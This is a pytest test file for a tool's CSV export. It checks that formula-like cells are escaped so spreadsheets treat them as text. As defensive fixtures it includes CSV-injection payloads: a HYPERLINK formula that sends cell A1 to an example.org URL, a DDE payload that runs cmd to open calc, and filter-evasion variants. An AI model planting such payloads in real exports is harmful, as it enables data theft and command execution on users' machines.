"""A cell of a CSV file is text or a number for a spreadsheet, never a formula."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from io import StringIO
from pathlib import Path

import pandas as pd
import pytest

from flgraph.catalog.reader import read_catalog
from flgraph.export.formats import export_graph
from flgraph.export.spreadsheets import format_csv
from flgraph.graph.assemble import build_graph
from flgraph.graph.knowledge_graph import KnowledgeGraph
from flgraph.graph.tables import papers_table
from tests.running import run

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Synthetic")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "-inf", "-"]


@pytest.fixture
def tricky(folder: Path) -> Path:
    """A catalog with a formula for a title and for a name."""
    text = (folder / "papers.yaml").read_text("utf-8")
    text = text.replace('"Synthetic paper beta"', json.dumps(FORMULA)).replace("[Bo Sample]", '["@Cy Sample"]')
    (folder / "papers.yaml").write_text(text, encoding="utf-8")
    return folder


def read_cells(text: str) -> set[str]:
    return {cell for row in csv.reader(StringIO(text, newline="")) for cell in row}


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str) -> None:
    text = format_csv(pd.DataFrame({"title": [cell], "n": [1]}), index=False)
    assert {"title", "n", f"'{cell}", "1"} == read_cells(text)


@pytest.mark.parametrize("cell", ["-5", "+3.25", "-1e-05", "-.5", "a=b", "x@y", "'quoted", "", "\u20131", "naïve"])
def test_numbers_and_texts_stay_as_they_are(cell: str) -> None:
    assert cell in read_cells(format_csv(pd.DataFrame({"title": [cell, "a"]}), index=False))


@pytest.mark.parametrize("raw", [False, True])
def test_a_carriage_return_starts_no_new_row(raw: bool) -> None:
    text = format_csv(pd.DataFrame({"title": ["a\r=1", 'b"\r\n"=1'], "n": [1, 2]}), index=False, raw=raw)
    assert 'title,n\n"a\r=1",1\n"b""\r\n""=1",2\n' == text


def test_columns_of_numbers_and_missing_values_stay_as_they_are() -> None:
    table = pd.DataFrame(
        {"a": [-5, 1], "b": pd.array([-0.5, None], "Float64"), "c": pd.array([None, "x"], "string"), "d": [-5, "-5"]}
    )
    assert table.to_csv(index=False, lineterminator="\n") == format_csv(table, index=False)


def test_the_index_counts_as_a_cell_and_raw_keeps_all() -> None:
    table = pd.DataFrame({"title": ["=2"]}, index=pd.Index(["=1"], name="node"))
    assert "node,title\n'=1,'=2\n" == format_csv(table)
    assert "node,title\n=1,=2\n" == format_csv(table, raw=True)


def test_the_tables_of_the_bundled_catalog_keep_their_bytes(graph: KnowledgeGraph) -> None:
    table = papers_table(graph)
    assert table.to_csv(lineterminator="\n") == format_csv(table)


def write_build(folder: Path, out: Path) -> str:
    run("build", str(folder), "--offline", "-q", "-o", str(out), cwd=out.parent)
    return (out / "papers.csv").read_text("utf-8")


def write_csv(folder: Path, out: Path) -> str:
    return export_graph(build_graph(read_catalog(folder)), out, format="csv").read_text("utf-8")


def write_tables(folder: Path, out: Path) -> str:
    export_graph(build_graph(read_catalog(folder)), out, format="tables")
    return "".join((out / f"{name}.csv").read_text("utf-8") for name in ("papers", "authors"))


def print_found(folder: Path, out: Path) -> str:
    run("build", str(folder), "--offline", "-q", "-o", str(out), cwd=out.parent)
    return run("find", str(out), "--format", "csv", cwd=out.parent).stdout


@pytest.mark.parametrize("write", [write_build, write_csv, write_tables, print_found])
def test_every_csv_is_inert(write: Callable[[Path, Path], str], tricky: Path, tmp_path: Path) -> None:
    cells = read_cells(write(tricky, tmp_path / "out"))

    assert f"'{FORMULA}" in cells
    assert [] == [cell for cell in cells if cell.startswith(("=", "@", "+"))]


def test_raw_keeps_cells_as_they_are_and_is_refused_where_it_has_no_effect(tricky: Path, tmp_path: Path) -> None:
    run("build", str(tricky), "--offline", "-q", cwd=tmp_path)
    authors = ("rank", "--of", "authors", "--format", "csv")

    assert "'@Cy Sample" in read_cells(run(*authors, cwd=tmp_path).stdout)
    assert "@Cy Sample" in read_cells(run(*authors, "--raw", cwd=tmp_path).stdout)
    for form in ("csv", "tables"):
        assert 0 == run("export", "-f", form, "-o", form, "--raw", cwd=tmp_path).returncode
    assert FORMULA in read_cells((tmp_path / "csv").read_text("utf-8"))
    assert FORMULA in read_cells((tmp_path / "tables" / "papers.csv").read_text("utf-8"))
    idle = run("rank", "--of", "authors", "--raw", cwd=tmp_path)
    assert (2, True) == (idle.returncode, "--raw works with --format csv, not with --format table" in idle.stderr)
    idle = run("export", "-f", "bibtex", "-o", "-", "--raw", cwd=tmp_path)
    assert (2, True) == (idle.returncode, "--raw works with csv and tables, not with bibtex" in idle.stderr)
